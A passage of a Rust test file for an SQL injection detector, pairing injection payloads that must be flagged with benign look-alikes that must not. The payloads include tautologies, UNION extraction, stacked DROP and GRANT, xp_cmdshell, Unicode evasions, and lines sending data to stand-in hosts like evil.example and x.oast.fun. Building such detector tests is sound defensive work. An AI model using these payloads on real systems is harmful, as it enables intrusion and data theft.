        "1; CREATE EXTENSION dblink;--",
        "1; LOCK TABLES users WRITE;--",
        "1; HANDLER users OPEN;--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // the same verbs in prose after a `;`
    for v in [
        "Clean the house; do it(now)",
        "Great work; lock tables before moving",
        "Merge the branches; merge into main using git",
        "Remember; backup database regularly to disk",
        "We met; set role to admin later",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn update_assignments_list_closes_and_negated_operands() {
    for v in [
        "x', role='admin",
        "x', is_admin=1-- -",
        "1,2) OR 1=1--",
        "a','b') AND 1=CONVERT(int,@@version)--",
        "3,4)) or 2>1 --",
        "5 OR ~0",
        "1 AND !!1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Smith', John",
        "a, b) and c",
        "1, 2) or more",
        "Tom', Mary', and Sue",
        "1 or 2 people",
        "x', y",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn oracle_packages_that_reach_outside_and_methods_on_their_objects() {
    for v in [
        "1,UTL_INADDR.GET_HOST_NAME(user)",
        "1,CTXSYS.DRITHSX.SN(1,user)",
        "1 AND HTTPURITYPE('http://evil.example/'||user).GETCLOB() IS NULL",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // methods chained on ordinary calls are program text
    for v in [
        "exp(x).diff(x)",
        "Poly(x**2 + 1, x).rem(Poly(2*x - 4, x), auto=False)",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn maintenance_statements_negated_constants_and_prices() {
    for v in [
        "1; VACUUM--",
        "1; LISTEN x; NOTIFY x--",
        "1; REINDEX DATABASE app--",
        "1 OR NOT 0",
        "1); CALL sys.ps_setup_show_enabled() --+",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "$10 or $20",
        "$100 and $200",
        "WAITFOR DELAY in a job takes too long",
        "Step 1; vacuum the floor",
        "Rooms: 1; checkpoint",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

/// Gap 1: a value that closes its literal inside `INSERT … VALUES (…)`, adds items or rows
/// and cuts the rest off; prose quoting things has words and no truncating comment after `)`.
#[test]
fn insert_values_breakouts() {
    for v in [
        "x', @@version)#",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'admin')-- -",
        "a1b2c3d4'), ('y', 'admin')-- -",
        "x', current_user)--",
        "x', 1, 1)#",
        "x', 0x61646d696e)#",
        "x', user())#",
        "x', 'admin') ON DUPLICATE KEY UPDATE role='admin'#",
        "x'), ('y', 'admin",
        "x'), ('a','admin');--",
        "refund requested by phone'), ('svc-billing','user.promote','admin','by script');--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Pat', 'Sam'); see you there --",
        "O'Brien, Pat",
        "Hi, I'm Anna, 'admin' of the local club",
        "Dogs', cats) -- best friends",
        "Pat', 'Sam')",
        "x', 'y'",
        "Chris', Jones (editor)) --",
        "O'Reilly', 2021) #1 bestseller",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Gap 3: `UPDATE … SET` assignments that also write the row filter, the rest cut off.
#[test]
fn update_assignments_with_where() {
    for v in [
        "x', role='admin' WHERE id=1--",
        "x', role='admin' WHERE username='admin'#",
        "x', balance=999999 WHERE 1=1-- -",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "x', role='admin' where it matters",
        "Ann', team=blue WHERE possible",
        "x', a=b where c",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Gap 6: ODBC escapes, `IS [NOT] DISTINCT FROM`, a lone conditional call on constants, an
/// `IN` list of literals closed and continued.
#[test]
fn dialect_constructs_the_grammar_reads() {
    for v in [
        "' OR {x 1}=1#",
        "' AND {d '2020-01-01'}>0-- -",
        "' OR 1 IS NOT DISTINCT FROM 1--",
        "' OR 1 IS DISTINCT FROM 2--",
        "IF(1=1,5,6)",
        "IIF(1=1,5,6)",
        "rand(1=1)",
        "ELT(1=1,5)",
        "'a','b') OR ('1'='1'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "IF(A1>5,\"yes\",\"no\")",
        "=IF(A1>5,1,0)",
        "if(x == 1, a, b)",
        "assert(1 == 1)",
        "max(1, 2)",
        "rand(10)",
        "the 'x' is distinct from 'y'",
        "' or {name}=1",
        "{x 1}",
        "'a', 'b' and 'c'",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Gap 4: a GraphQL document's string arguments reach resolvers decoded, one by one.
#[test]
fn graphql_string_arguments() {
    for v in [
        r#"mutation { login(username: "admin'-- -", password: "x") { token } }"#,
        r#"{ items(filter: {category: "1) OR (1=1"}) { edges { node { id } } } }"#,
        r#"mutation { signup(name: "x', 'admin')-- -", email: "a@b.c") { id } }"#,
        r#"query Q { user(id: "1 UNION SELECT password FROM users") { id } }"#,
        r#"{ user(name: "admin\u0027--") { id } }"#,
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        r#"query { user(name: "O'Brien") { id } }"#,
        r#"{ search(q: "select comfort mattress", first: 10) { id } }"#,
        r#"mutation { post(body: "Don't drop the ball -- really", tags: ["a", "b"]) { id } }"#,
        r#"{"query": "{ a }", "variables": {"x": "it's"}}"#,
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Program text is not SQL: `false` is every language's truth constant (no niladic SQL
/// function), and a statement quoted in a host-language call leaves the application's
/// closing quote after a clause's operand, which no dialect parses.
#[test]
fn program_text_around_sql() {
    for v in [
        "useEffect(() => {\n  const t = setTimeout(() => setOpen(false), 3000);\n}, []);",
        "f(g(false))",
        "cursor.execute(\"SELECT * FROM users WHERE email = %s\", (email,))",
        "db.query('SELECT * FROM items WHERE id = ?', [req.params.id])",
        "df = pd.read_sql('SELECT * FROM sales WHERE year = 2023', conn)",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "concat(current_user(),version())",
        "x' SELECT * FROM users WHERE 'a'='a",
        "x' SELECT password FROM users WHERE id=1--",
        "x' select * from users where name like '",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// `time.sleep(5)` is a method of a program object; SQL qualifies its built-ins only by a
/// catalog schema or an Oracle package.
#[test]
fn qualified_attack_functions() {
    for v in [
        "time.sleep(5)",
        "Thread.sleep(5000)",
        "await asyncio.sleep(1)",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "1 AND DBMS_LOCK.SLEEP(5)",
        "' or dbms_session.sleep(5)--",
        "1 ;BEGIN USER_LOCK.SLEEP(5); END --",
        "1;select pg_catalog.pg_sleep(5)",
        "'; exec master..xp_cmdshell 'dir'--",
        "1 AND sleep(5)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn a_dropped_object_needs_its_name() {
    assert!(detect("x'; DROP TABLE users--", Context::Param).is_some());
    assert!(detect("1; DROP TABLE IF EXISTS users", Context::Param).is_some());
    assert!(detect("My kid put 'DROP TABLE' as his nickname", Context::Param).is_none());
}

/// A proven test (`or 1=1`) keeps its force when a clause that ends a statement follows it:
/// row locks, output shapes, query hints, dialect options.
#[test]
fn tautology_then_statement_tail() {
    for v in [
        "' or 1=1 for update--",
        "' or 1=1 lock in share mode#",
        "' or 1=1 for update skip locked--",
        "1 or 1=1 for update of users",
        "' or 1=1 option (maxdop 1)--",
        "' or 1=1 returning *--",
        "' or 1=1 settings max_threads=1--",
        "' or 1=1 qualify 1=1--",
        "x' or 1=1 window w as ()--",
        "' or 1=1 for xml auto--",
        "1 or 1=1 with ur",
        // a quote break-out and a tautology, then any tail cut off by a comment
        "' or 1=1 frobnicate the rest--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "it's 1=1 for update",
        "x or y for update--",
        "Tom's or Jerry's for share",
        "1 or 2 for update",
        "' or so for update--",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// After a number, a clause of its own ends the application's statement.
/// A value whose quotes are all doubled is SQL once a second layer un-doubles them.
#[test]
fn doubled_quote_breakouts() {
    for v in [
        "x'' or ''1''=''1",
        "admin''--''",
        "1'' union select null,null--''",
        "x\"\" or \"\"a\"\"=\"\"a",
        "$.name') OR 1=1 -- ",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "It''s O''Brien''s",
        "He said \"\"hi\"\" or \"\"bye\"\"",
        "''quoted'' and ''more''",
        "x'' or y'",
        "5'' or 6''",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn number_then_statement_tail() {
    for v in [
        "1 for update",
        "1 for update nowait",
        "1 lock in share mode",
        "1 for xml path('')",
        "1 into @a",
        "10 INTO @,@,@",
        "1 into @a, @b",
        "1 limit 1,1 into @,@",
        "x' for update--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "2 for share",
        "1 for xml",
        "3 for update please",
        "buy 2 for update",
        "1 into the box",
        "10 into 3 goes 3 times",
        "turn 1 into 2",
        "1 into @a, then b",
        "x' for update",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// In a numeric context, a logic operator and a column tested against a constant removes
/// the filter; a number with itself, XOR or a hex literal makes it constant.
#[test]
fn numeric_column_and_constant_logic() {
    for v in [
        "1 or price>0",
        "1 and id<>0",
        "0 or id is not null",
        "2 or userid>=0",
        "-1 or uid>-1",
        "5 or qty between 0 and 999",
        "1 or is_admin",
        "1 or 1",
        "1 || 1",
        "1 && 1",
        "3 xor 1",
        "1 or 0x1",
        "1 or 1 limit 1",
        "1 or 1 order by 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "5 and y < 3",
        "1 or 2",
        "1 or more",
        "1 or 2 more days",
        "rating 4 or above",
        "1 or two people",
        "2 and x > 1",
        "1 or id",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// `UPDATE … SET age=<value>`: a number followed by more assignments writes other columns.
#[test]
fn numeric_update_assignments() {
    for v in [
        "1, is_admin=1",
        "0, balance=999999",
        "30, email='attacker@evil.com'",
        "1, verified=true, plan='enterprise'",
        "5, role='admin'",
        "1, role='admin'-- -",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1, x=2",
        "a=1, b=2",
        "1, width",
        "3, page=two",
        "pdf=1,flash=0,tiff=0,webp=1,pgpmime=0",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// A `#` or `--` glued to the quote that closed a one-word literal cuts the query off.
#[test]
fn comment_glued_to_closing_quote() {
    for v in [
        "admin'#comment",
        "admin')#a",
        "admin\"#x",
        "bob'#remember-me",
        "x'))#pwn",
        "test'--@x.com",
        "1'#foo\n",
        "5'#x",
        "42')#pwn",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "5'#2",
        "6'#3 rebar",
        "5'--6'",
        "6\"#tall",
        "5' #shortgirlproblems",
        "'#1'",
        "chalk.hex('#DEADED').underline('Hello')",
        "<code>chalk.hex('#DEADED')</code>",
        "Joe's#1 fan",
        "it's#awesome",
        "ABC--123",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Full-width forms, Unicode blanks and case-mapping letters reach SQL as ASCII.
#[test]
fn folded_unicode() {
    for v in [
        "1\u{ff07} \u{ff35}\u{ff2e}\u{ff29}\u{ff2f}\u{ff2e} \u{ff33}\u{ff25}\u{ff2c}\u{ff25}\u{ff23}\u{ff34} 1",
        "\u{ff07}\u{ff0f}\u{ff0a}\u{ff0a}\u{ff0f}OR 1=1",
        "1\u{3000}union\u{3000}select\u{3000}1",
        "1\u{a0}union\u{a0}select\u{a0}1",
        "1 un\u{131}on select 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "\u{ff11}\u{ff12}\u{ff13}\u{3000}\u{6771}\u{4eac}\u{90fd}",
        "\u{ff08}\u{682a}\u{ff09}\u{30c6}\u{30b9}\u{30c8}",
        "Ak\u{131}ll\u{131} telefon ve bilgisayar",
        "caf\u{e9}\u{a0}cr\u{e8}me",
        "Select\u{a0}one of the options",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Statements after a `;` that rename, bulk-load or call through a package.
#[test]
fn stacked_rename_bulk_call() {
    for v in [
        "'; rename table users to u2;--",
        "'; BULK INSERT t FROM '\\\\evil\\share\\x'--",
        "x' ; call sys.dbms_output.put_line(user)--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "done; rename the file to x",
        "ok; bulk insert is slow",
        "then; call me maybe",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Prose about SQL: a select list that runs into more words, a function named in a sentence.
#[test]
fn sql_named_in_prose() {
    for v in [
        "select count(*) vs count(1)",
        "sleep(5) is a function in python",
        "sleep(5) is not what you want",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "select count(*) from users",
        "select version() as v",
        "1 and sleep(5) is null",
        "sleep(5) is not null",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// Clause and statement tails after a break-out: MySQL's upsert, a WHERE after added
/// assignments, `TABLE`/`VALUES` after UNION, a T-SQL system procedure after `;`, a
/// constant matched against itself, two constants before a query clause.
#[test]
fn clause_tails_after_a_break_out() {
    for v in [
        "x' on duplicate key update role='admin'#",
        "x') on duplicate key update is_admin=1-- -",
        "x', password='p' where '1'='1",
        "1 union table users",
        "1 union values(1)",
        "1; sp_rename 'users','u2'--",
        "1 rlike 1",
        "1 sounds like 1",
        "' or 'a' like 'a",
        "0 or 1 offset 0",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Tom's on duplicate key update duty",
        "x', name='y' where is it",
        "the union table was set",
        "students union values (we care)",
        "see; sp_who is a proc",
        "love like love",
        "1 like 2",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// Probes that read server data or test stacked queries: a bare server variable, a second
/// statement selecting constants, a conditional sort whose test compares constants.
#[test]
fn server_variables_and_probes() {
    for v in [
        "@@version",
        "@@hostname",
        "1;select 1--",
        "';select 'a','b'--",
        "IF(1=1,name,price)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "@john",
        "@@",
        "@@ab",
        "me@@example.com",
        "Step 1; select 2 items",
        "IF(A1>5,yes,no)",
        "if(x=1, a, b)",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn unicode_that_normalisation_makes_sql() {
    for v in [
        "1 \u{1d414}\u{1d40d}\u{1d408}\u{1d40e}\u{1d40d} \u{1d412}\u{1d404}\u{1d40b}\u{1d404}\u{1d402}\u{1d413} 1,2,3-- ",
        "admin'\u{fe63}\u{fe63} ",
        "' OR 1\u{fe66}1\u{fe63}\u{fe63} ",
        "x\u{2ba} OR \u{2ba}a\u{2ba}=\u{2ba}a",
        "admin\u{2bc} OR 1=1-- ",
        "x' UN\u{200f}ION SEL\u{200e}ECT password FROM users-- ",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Україна — це м\u{2bc}ята і сім\u{2bc}я",
        "\u{1d400}\u{1d401}\u{1d402} fancy font name",
        "family \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} photo",
        "می\u{200c}خواهم بروم",
        "\u{2c8}\u{e6}p\u{259}l is how you say apple",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn the_byte_prefilter_of_ascii_folding_misses_no_character() {
    // (the small forms without an ASCII form, FE51 FE53 FE58 FE5D FE5E FE67, are kept; so
    // are the mathematical Greek letters U+1D6A8..U+1D7CB and the unassigned U+1D6A6/7)
    let folds = |c: char| {
        matches!(c, '\u{ff01}'..='\u{ff5e}' | '\u{3000}' | '\u{a0}' | '\u{1680}'
            | '\u{2000}'..='\u{200a}' | '\u{202f}' | '\u{205f}' | '\u{131}' | '\u{17f}' | '\u{212a}'
            | '\u{2b9}' | '\u{2ba}' | '\u{2bc}' | '\u{2c8}'
            | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
            | '\u{1d400}'..='\u{1d6a5}' | '\u{1d7ce}'..='\u{1d7ff}'
            | '\u{24b6}'..='\u{24e9}'
            | '\u{2160}' | '\u{2164}' | '\u{2169}' | '\u{216c}'..='\u{216f}'
            | '\u{2170}' | '\u{2174}' | '\u{2179}' | '\u{217c}'..='\u{217f}')
            || (('\u{fe50}'..='\u{fe6b}').contains(&c)
                && !matches!(
                    c,
                    '\u{fe51}' | '\u{fe53}' | '\u{fe58}' | '\u{fe5d}' | '\u{fe5e}' | '\u{fe67}'
                ))
    };
    for cp in (0x80..0x1_0000u32).chain(0x1d000..0x1e000) {
        let Some(c) = char::from_u32(cp) else {
            continue;
        };
        for s in [
            format!("{c}"),
            format!("a{c}"),
            format!("{c}ab"),
            format!("x{c}yz"),
        ] {
            assert_eq!(
                super::fold_to_ascii(&s).is_some(),
                folds(c),
                "{cp:#x} in {s:?}"
            );
        }
    }
}

#[test]
fn prose_exec_select_and_password_noise() {
    // abbreviations, prose choices and generated passwords: no statement, no break-out
    for v in [
        "1234 Exec Dr. (back entrance)",
        "Exec Dr.",
        "Exec Ct.",
        "Exec (ret.)",
        "1 Exec Pkwy (Bldg B)",
        "Select * from the dropdown",
        "Select (one) from below",
        "select * from the list below",
        "CpC8{67p`*1#",
        "S`#Uu~Ke;Cx\\{yFjF,ogr^<>",
        "U0>vtPk'&#,4:.`#",
        "BOC)rE\"NE1)_$po`%@kj",
        "gJ-bn])z)I7`|@(.e7qn",
        "vA-CS.`j'*'1",
        "|5wIBC`T<\"*\"pIG,",
        "_xZM,s(-=[rs",
        "exec(s)",
        "execute()",
        "cursor.execute()",
        "EXEC( )",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // the constructs they resemble
    for v in [
        "exec master.dbo.xp_cmdshell 'dir'",
        "exec master..xp_cmdshell",
        "EXEC('sel'+'ect 1')",
        "EXEC(@s)",
        "EXEC(CHAR(83))",
        "Execute(",
        "1 exec sp_x(1)",
        "select * from users",
        "select(sleep(5))",
        "admin'#",
        "admin'--",
        "'*'",
        "1'*'",
        "'-'",
        "' + @a + '",
        "x' or 1=1#",
        "a,if(1=1,1,0)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn stacked_constant_probes_and_grants() {
    for v in [
        "'; select 1/0--",
        "1;select 1;--",
        "1; select (1), 'a';--",
        "'; GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'--",
        "'; grant select, insert on app.users to evil--",
        "1; REVOKE ALL PRIVILEGES ON db.* FROM 'app'@'%';--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Item 1; select one of the sizes --",
        "step 2; select 1 or 2 of them",
        "We agreed; grant us the rest.",
        "fine; grant them access to the room",
        "it's ok; grant select rights on request",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn number_predicates() {
    for v in [
        "1 IS NOT NULL",
        "1 is null",
        "1 between 0 and 2",
        "1 not between 0 and 2",
        "99 RLIKE 1",
        "1 regexp 1",
        "(1)or(1)",
        "(1)and(1)",
        "(0)xor(1)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // counts people type, and arithmetic
    for v in [
        "2 or 3",
        "1 or 2 days",
        "(1) or (2)",
        "1 - 1",
        "1 is the loneliest number",
        "2 between meals",
        "(a)or(b)",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn order_limit_values_close_and_backtick_columns() {
    for v in [
        "id asc limit 1",
        "name desc limit 5",
        "id desc limit 1, 1",
        "1, 1)-- ",
        "1, 'admin', 1)#",
        "`username`,`password` FROM users-- ",
        "`id`, `pass` FROM app.users#",
        // the column name closed, an operator, a name reopened for the application's `
        "1`or`1",
        "id`and`sleep(1)=0",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "speed limit 50",
        "id limit 1",
        "asc limit 1",
        "1, 2) and so on",
        "see points 1, 2) -- and 3",
        "apples, pears from market --",
        "`code`, `pre` from docs",
        "use `or` here",
        "`1` or `2`",
        "a `x` or `y` b",
        "run `make` or `cargo build`",
        "press `or`",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn addresses_and_quoted_connectives_stay_data() {
    for v in [
        "12 Select Rd, Unionville, ON L3R 1A1",
        "4 Union St, Order Rd, Drop Ln",
        "she said 'or' not 'and'",
        "they wrote 'and' but meant 'or' here",
        // the connective's operand is a phrase the application's quote closes
        "'or' is a conjunction",
        "\"Or\" my favourite is the blue one",
        "Pretty good, but the 'OR' sign on the box is misleading",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        // a phrase led by a number is true in MySQL and SQLite
        "' or ' 1 is a number here",
        "' or 'a",
        "12 select name, email from users",
        "1 select @@version",
        "1' or '1",
        "admin' or 'x",
        "x' or '",
        "' or '' = '",
        "<?xml version=\"1.0\"?><root><a probe=\"a'or'a\"></a></root>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn values_sql_ignores_are_left_to_nobody() {
    for v in [
        "/* not a comment */",
        " /* TODO: fix later */ ",
        "Passw0rd--",
        "Union#1Select",
        "summer_2024#",
        "hunter2--x",
        "#SELECT #UNION #DROP",
        "#blessed #nofilter",
        "'password'",
        "\"drop\"",
    ] {
        assert!(ignored_by_sql(v), "not settled {v:?}");
    }
    for v in [
        "admin'--",
        "1--",
        "--sp_password",
        "x--SP_PASSWORD",
        "/*!50000union*/",
        "/* a */ or 1=1",
        "a--\nunion select 1",
        "-- or # ",
        "#x\nunion select 1",
        "#'or 1=1",
        "'a'='a'",
        "'a' or 'b'",
        "'ab",
        "''",
        "'x\"",
        "a\\'#",
        "x\"--",
        "1 or 1=1--",
        "/* x */ /* y */",
    ] {
        assert!(!ignored_by_sql(v), "settled {v:?}");
    }
}

#[test]
fn sentences_quoting_words_are_the_grammars() {
    for v in [
        "Is it 'like' or 'love'?",
        "how to use 'select' in sql",
        "My password is not 'password123' lol",
        "she said 'or' not 'and'",
        "the \"drop\" button, then \"save\".",
        // quoted words joined by an arrow: a commit message, a mapping
        "Rename 'usr' -> 'user'",
        "rename column \"pwd\" -> \"password\"",
        "map 'en' => 'english' and 'fr' => 'french'",
        "'old' -> 'new' in config",
    ] {
        assert!(quoted_words_in_prose(v), "not settled {v:?}");
    }
    for v in [
        "admin' or 'x",
        "' or 'a'='a",
        "'password'",
        "1 'or' 1 'and",
        "is this your parents' or yours?",
        "hello 'or 1 like 1 or' x",
        "say 'a' or 'b",
        "it's 'ok' or not",
        "see 'x' or 'y'; drop table t",
        "see 'x' -- or 'y'",
        "ok 'x\" or \"y'",
        "a b",
        // `<-` is `< -`, a comparison; `-->` opens a comment; an arrow glued to a word or
        // quote is no arrow between words; and an arrow leaves the rest judged
        "Rename 'usr' <- 'user'",
        "Rename 'usr' --> 'user'",
        "Rename 'usr'->'user'",
        "Rename 'usr' -> 'user' or 'a'='a'",
        "Rename 'usr' -> 'user'; drop table users",
        "rename x' -> 'y",
        "Rename 'usr' >= 'user'",
    ] {
        assert!(!quoted_words_in_prose(v), "settled {v:?}");
    }
}

#[test]
fn empty_exponents_glued_to_brackets() {
    for v in [
        "1.e(1)or 1=1",
        "1 and 1.e(select 1.e,2)=(1,2)",
        "' or 1.e(1)=1.e(1)--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "version 1.e(beta) or later",
        "see 3.e) and 4.a)",
        "run setup1.exe (64-bit)",
        "1.5e(3)",
        "rev 2.e, 2.f",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn name_scans_agree_with_the_bytewise_definition() {
    let is_name = |c: u8| c.is_ascii_alphabetic() || c == b'_';
    // every byte value at every offset of a step and of the tail, among name bytes and not
    for c in 0..=255u8 {
        for at in 0..18 {
            for fill in [b'a', b'_', b' ', 0x7f, 0xdf] {
                let mut v = vec![fill; 18];
                v[at] = c;
                for i in 0..v.len() {
                    let want_next = (i..v.len()).find(|&k| is_name(v[k]));
                    assert_eq!(
                        super::next_name_byte(&v, i),
                        want_next,
                        "{c:#x} {at} {fill:#x} {i}"
                    );
                    let want_end = (i..v.len()).find(|&k| !is_name(v[k])).unwrap_or(v.len());
                    assert_eq!(
                        super::name_run_end(&v, i),
                        want_end,
                        "{c:#x} {at} {fill:#x} {i}"
                    );
                }
            }
        }
    }
}

/// The vectorised class pass sees every byte a table look-up sees, at every position of a
/// block and in the tail, alone and mixed.
#[test]
fn byte_class_pass_agrees_with_table_lookups() {
    let table = |b: &[u8]| {
        let m = b
            .iter()
            .fold(0u16, |m, &c| m | super::BYTE_CLASS[usize::from(c)]);
        // the vector pass itself, at lengths `byte_classes` leaves to the look-ups too
        #[cfg(target_arch = "x86_64")]
        if crate::nibble::wide::available() {
            // SAFETY: `available` checked that this CPU has AVX2.
            let wide = unsafe { crate::nibble::wide::classes(&super::BYTE_CLASS_NIBBLES, b) };
            assert_eq!(wide, (b.len() >= 32).then_some(u32::from(m)), "{b:?}");
        }
        m
    };
    let mut buf = [b'a'; 96];
    for x in 0..=255u8 {
        for at in [0, 1, 15, 16, 17, 31, 32, 33, 63, 64, 95] {
            for len in [at + 1, 32, 33, 47, 48, 64, 95, 96] {
                if len <= at || len > buf.len() {
                    continue;
                }
                buf.fill(b'a');
                buf[at] = x;
                let b = &buf[..len];
                assert_eq!(
                    table(b),
                    super::BYTE_CLASS[usize::from(x)] | super::BYTE_CLASS[usize::from(b'a')]
                );
                // (a string for the public path: `x` may not be UTF-8 alone)
                if let Ok(s) = std::str::from_utf8(b) {
                    assert_eq!(super::byte_classes(s), table(b), "{s:?}");
                }
            }
        }
    }
    // every byte value in one value, then pairs of bytes
    let all: Vec<u8> = (0..=255u8).collect();
    table(&all);
    for x in 0..=255u8 {
        let pair: Vec<u8> = std::iter::repeat_n([x, x.wrapping_mul(7)], 40)
            .flatten()
            .collect();
        table(&pair);
    }
}

#[test]
fn a_plain_email_address_is_data() {
    for v in [
        "or@gmail.com",
        "select@company.com",
        "And@x.com",
        "union.station@rail.co.uk",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "admin@x.com' or 1=1--",
        "a@b.c'--",
        "1 or@a.com=1",
        "x@y.com'#",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn copy_a_table_to_a_file_or_program() {
    for v in [
        "1; COPY users TO PROGRAM 'nslookup x.oast.fun'--",
        "'; copy secrets to '/tmp/x.csv'--",
        "1; COPY t TO STDOUT--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["ok; copy them to the folder", "Copy paste; copy it to me"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_stacked_constant_select_after_a_number() {
    for v in ["1;select 1", "5; SELECT 1,2,3", "1;select 1/0"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["1; select 2 options", "Step 1; select 2", "1; select one"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn logic_between_sql_boolean_constants() {
    // the true/false pair of a blind probe, `&&`/`||` between numbers, any dialect's form
    for v in [
        "1 and 0",
        "1 and 1",
        "0 or 1",
        "1 or 0",
        "0 and 1",
        "1e0 or 1",
        "1.0 AND 0",
        "1 && 0",
        "2 && 3",
        "7 || 0",
        "1 OR 0",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // counts joined in an answer, words after them, negatives
    for v in [
        "2 or 3",
        "1 or 2",
        "5 and 6",
        "1 or 2 days",
        "0 or 1 children",
        "2 and 0",
        "10 or 1",
        "1 and 0 are the bits",
        "-1 or 0",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn mysql_word_arithmetic_between_numbers() {
    // probes: identity, zero, NULL, or an exact quotient (a known row)
    for v in [
        "3 div 1", "1 div 1", "1 mod 1", "7 mod 1", "1 div 0", "5 mod 0", "10 div 2", "10 DIV 5",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // homework: the remainder or the rounding is the question
    for v in [
        "10 mod 3",
        "7 mod 2",
        "10 DIV 3",
        "15 div 4",
        "15 div 4 rounds down",
        "6-1",
        "100-200",
        "2-1",
        "7 % 2",
        "3 div",
        "mod 2",
        "7 mod 2 days",
        "10 / 3",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn limit_clause_goes_on_past_its_count() {
    for v in [
        "1 limit 1,1 into @a",
        "1 LIMIT 0,1 PROCEDURE ANALYSE()",
        "1 limit 0,1 procedure analyse(extractvalue(1,concat(0x7e,version())),1)",
        "5 limit 1 into @x",
        "id limit 1 into @v",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // (`1 limit 1,1` alone: see `number_then_row_window`)
    for v in ["limit 2 per customer", "1 limit into the wild"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn sort_direction_then_a_comment() {
    for v in [
        "price desc--",
        "name asc--",
        "created_at DESC-- -",
        "price desc#",
        // a sort key or direction alone then the comment: see `identifier_and_sort_key_context`
        "price--",
        "desc--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "A-- grade",
        "50--60 people",
        "sort desc -- newest first please",
        "Passw0rd--",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn nested_block_comments_as_postgresql_reads_them() {
    for v in [
        "1/*/*nested*/*/or 1=1",
        "1 /* a /* b */ c */ union select null--",
        "'/*/**/*/or/*/**/*/'a'='a",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "/* a /* b */ c */",
        "see /* nested /* comments */ here */ ok",
